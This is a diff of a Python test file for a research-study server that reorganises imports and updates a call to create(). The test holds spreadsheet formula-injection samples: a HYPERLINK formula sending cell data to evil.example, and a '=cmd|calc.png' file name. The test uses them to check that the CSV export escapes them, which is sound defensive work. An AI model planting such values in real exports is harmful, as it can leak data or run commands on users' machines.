@@ -24,12 +24,14 @@ from recruiting import begin_from, changed, prolific_link
 from requests_of_a_participant import answer, begin, database
 from study_server.export.participants import participant_rows
 from study_server.folder.making import create
-from study_server.folder.settings import Question
 from study_server.folder.study_folder import StudyFolder
 from study_server.folder.study_toml import write_settings
 from study_server.participants.typed_text import on_one_line
+from study_server.settings import Question
 from study_server.stimuli.image_sources import folder_photographs
 from study_server.storage.models import QuestionAnswer
+from study_server.tasks.shifted_pairs.making import make_stimuli
+from study_server.tasks.task import Plan
 from study_server.web.app import create_app
 
 FORMULA = '=HYPERLINK("http://evil.example/?"&A1;"a b")'
@@ -141,7 +143,10 @@ def test_names_of_photographs_that_are_skipped_are_no_formulae(made_tiny_study: 
     )
     orders = (folder_photographs(photographs, seed) for seed in range(50))
     source = next(order for order in orders if order.photographs[0].name == "=cmd|calc.png")
-    made = create(tmp_path / "made", settings, source, source, compressed=False)
+    made = create(
+        tmp_path / "made", study.task,
+        Plan(settings, lambda root: make_stimuli(root, settings, source, 2, "stimuli")), compressed=False,
+    )  # fmt: skip
     assert "=cmd|calc.png" in made.skipped
     (row,) = rows_of((tmp_path / "made" / "skipped.csv").read_text(encoding="utf-8"))
     assert row["source_file"] == "'=cmd|calc.png"
